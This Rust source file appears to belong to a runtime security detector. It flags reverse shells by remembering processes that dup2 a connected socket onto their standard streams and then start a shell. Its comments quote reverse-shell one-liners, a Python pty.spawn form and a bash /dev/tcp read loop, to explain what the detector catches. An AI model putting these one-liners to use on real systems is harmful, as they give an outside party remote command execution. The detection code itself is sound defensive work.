//! Reverse shells whose own standard streams are not the socket: a program connects out, `dup2`s
//! the socket onto its standard input or output, and then starts a shell on a terminal of its
//! own. Python's `os.dup2(s.fileno(), 0); ...; pty.spawn("/bin/sh")`, the most common reverse
//! shell one-liner, hands the shell a pseudo-terminal whose other side python copies to and
//! from the socket: the shell's descriptors are the terminal, so the `reverse-shell` rule (the
//! shell's standard input and output on connected sockets at exec) sees nothing. Tracee's
//! "process standard input/output over socket" signature looks at the `dup2` itself; here the
//! `dup` sensor's records (`dupSocket`: a connected socket put on fd 0-2, with its peer) are
//! remembered per process until it execs something else or exits, and a shell its child execs
//! is the reverse shell, `Execution:Runtime/ReverseShell`.
//!
//! A process that `dup2`s a socket and then execs is no longer the program that did it: an
//! inetd-style launcher (systemd's `Accept=yes`, xinetd) puts the accepted connection on fd 0-1
//! and execs the service, so the mark goes with the exec, and a service's later shells are not
//! judged by it. The shell that process execs in place has the socket on its own descriptors:
//! the `reverse-shell` rule's case.

use std::net::SocketAddr;

use vigil_crds::finding::RuntimeContext;
use vigil_detection::FindingType;

use super::{
    Candidate, Detector, ProcessLookup,
    bounded::FifoMap,
    redact::redacted_command_line,
    technique::{Raises, draft, listed, program_identity, technique},
};
use crate::event::{ActivityInfo, ExecInfo};

/// Processes remembered with a socket on their standard streams.
pub(crate) const MAX_DUPERS: usize = 1024;

/// A process that put a connected IP socket on its standard input or output.
#[derive(Debug)]
struct Duper {
    uuid: String,
    peer: SocketAddr,
    exe_comm: String,
    /// The socket is on standard output (not only standard input).
    stdout: bool,
}

/// The processes with a socket `dup2`ed onto fd 0 or 1, by pid, first in first out.
#[derive(Debug)]
pub(crate) struct StdioDups {
    dupers: FifoMap<u32, Duper>,
}

impl Default for StdioDups {
    fn default() -> Self {
        Self {
            dupers: FifoMap::new(MAX_DUPERS),
        }
    }
}

impl StdioDups {
    /// Remembers a `dupSocket` record: a connected IPv4 or IPv6 socket put on standard input or
    /// output (standard error alone drives nothing).
    pub(crate) fn on_activity(&mut self, a: &ActivityInfo) {
        if a.operation != "dupSocket" || a.ret < 0 {
            return;
        }
        let Some(socket) = &a.socket else { return };
        let (Some(peer), true) = (socket.remote, matches!(socket.fd, 0 | 1)) else {
            return;
        };
        if !matches!(socket.family, "inet" | "inet6") || peer.port() == 0 {
            return;
        }
        // `>&5 2>&5` after `<&5`: the streams add up while the image is the same.
        let stdout = socket.fd == 1
            || self
                .dupers
                .get(&a.process.pid)
                .is_some_and(|d| d.stdout && d.uuid == a.process.uuid && d.peer == peer);
        self.dupers.insert(
            a.process.pid,
            Duper {
                uuid: a.process.uuid.clone(),
                peer,
                exe_comm: a.process.comm.clone(),
                stdout,
            },
        );
    }

    /// The process exec'd or exited: what it did with its descriptors is no longer its image's.
    pub(crate) fn forget(&mut self, pid: u32) {
        self.dupers.remove(&pid);
    }

    /// Entries held and evicted.
    pub(crate) fn tracked(&self) -> (usize, u64) {
        (self.dupers.len(), self.dupers.evicted())
    }
}

/// A shell (by executable name; busybox by its applet) whose parent, still the image that did
/// it, had put a connected socket on its standard input or output; or any other program a
/// shell runs with a connected socket the shell put on its standard output
/// ([`command_to_socket`]). `previous`: the image this process ran before the exec, `None` for
/// a fork's first exec.
pub(crate) fn check_exec(
    d: &Detector,
    table: &StdioDups,
    e: &ExecInfo,
    previous: Option<&std::path::Path>,
    lookup: &dyn ProcessLookup,
) -> Option<Candidate> {
    let b = d.rules.behaviour();
    let name = program_identity(d, e);
    if !listed(&b.shells, name) {
        return command_to_socket(d, table, e, previous, lookup);
    }
    let parent = e.lineage.first()?;
    let duper = table
        .dupers
        .get(&parent.pid)
        .filter(|x| x.uuid.is_empty() || parent.uuid.is_empty() || x.uuid == parent.uuid)?;
    let parent_exe = parent
        .exe
        .as_ref()
        .map(|p| p.display().to_string())
        .unwrap_or_else(|| duper.exe_comm.clone());
    let context = socket_context(e, duper, &parent_exe, parent.pid);
    Some(technique(
        d,
        &e.process,
        lookup,
        Raises {
            finding_type: FindingType::ExecutionReverseShell,
            rule: "behaviour-reverse-shell-stdio-dup",
            mitre: "T1059.004,T1095",
            // As the reverse-shell rule.
            severity: Some(8.0),
        },
        draft(
            "A shell was started by a program whose standard streams are a network connection",
            format!(
                "Process {} (pid {}) is a shell started by {parent_exe} (pid {}), which had put \
                 its connection to {} on its standard input and output: the shell is driven \
                 from there.",
                e.process.comm, e.process.pid, parent.pid, duper.peer
            ),
            format!("{parent_exe}\0{}", duper.peer.ip()),
            context,
        ),
    ))
}

/// A command a shell runs with its standard output on a connected IP socket that the shell put
/// there (`dup2` by the shell, or by its fork before the exec): bash's `/dev/tcp` reverse shell
/// as a loop, `exec 5<>/dev/tcp/host/port; cat <&5 | while read l; do $l 2>&5 >&5; done`, where
/// no shell is exec'd on the socket and each command's output goes to the peer. A shell exec'd
/// with the socket on its streams is the `reverse-shell` rule's; a socket on standard input
/// only (`cat <&3`, bash fetching a page) is a download, not this. The shell is known by its
/// executable: the parent's, the fork's image being the parent's (no exec since the fork).
fn command_to_socket(
    d: &Detector,
    table: &StdioDups,
    e: &ExecInfo,
    previous: Option<&std::path::Path>,
    lookup: &dyn ProcessLookup,
) -> Option<Candidate> {
    let b = d.rules.behaviour();
    let parent = e.lineage.first()?;
    let parent_exe = parent.exe.as_ref()?;
    let shell_name = super::technique::program_name(super::path_basename(parent_exe));
    if !listed(&b.shells, shell_name) {
        return None;
    }
    let same = |x: &&Duper, uuid: &str| x.uuid.is_empty() || uuid.is_empty() || x.uuid == uuid;
    // The fork put it there before the exec, or the shell on its own streams.
    let (duper, holder) = match table
        .dupers
        .get(&e.process.pid)
        .filter(|x| previous.is_none() && same(x, &e.process.uuid))
    {
        Some(x) => (x, e.process.pid),
        None => (
            table
                .dupers
                .get(&parent.pid)
                .filter(|x| same(x, &parent.uuid))?,
            parent.pid,
        ),
    };
    if !duper.stdout {
        return None;
    }
    let shell = parent_exe.display().to_string();
    let context = socket_context(e, duper, &shell, holder);
    Some(technique(
        d,
        &e.process,
        lookup,
        Raises {
            finding_type: FindingType::ExecutionReverseShell,
            rule: "behaviour-reverse-shell-command-socket",
            mitre: "T1059.004,T1095",
            severity: Some(8.0),
        },
        draft(
            "A shell ran a command with its output on a network connection",
            format!(
                "Process {} (pid {}) was started by the shell {shell} (pid {}) with its standard \
                 output on the connection to {} that the shell put there: the command's output \
                 goes to the peer, as in a shell loop driven from the network.",
                e.process.comm, e.process.pid, parent.pid, duper.peer
            ),
            format!("{shell}\0{}", duper.peer.ip()),
            context,
        ),
    ))
}

/// The context of a finding about a socket a process put on its standard streams: the exec's
/// command line, the peer, and the process that put it there.
fn socket_context(e: &ExecInfo, duper: &Duper, held_by: &str, holder: u32) -> RuntimeContext {
    let mut context = RuntimeContext {
        command_line_example: Some(redacted_command_line(&e.argv)),
        ..RuntimeContext::default()
    };
    let a = &mut context.additional;
    a.insert("stdioPeer".into(), duper.peer.to_string());
    a.insert("socketHeldBy".into(), held_by.to_owned());
    a.insert("socketHolderPid".into(), holder.to_string());
    context
}
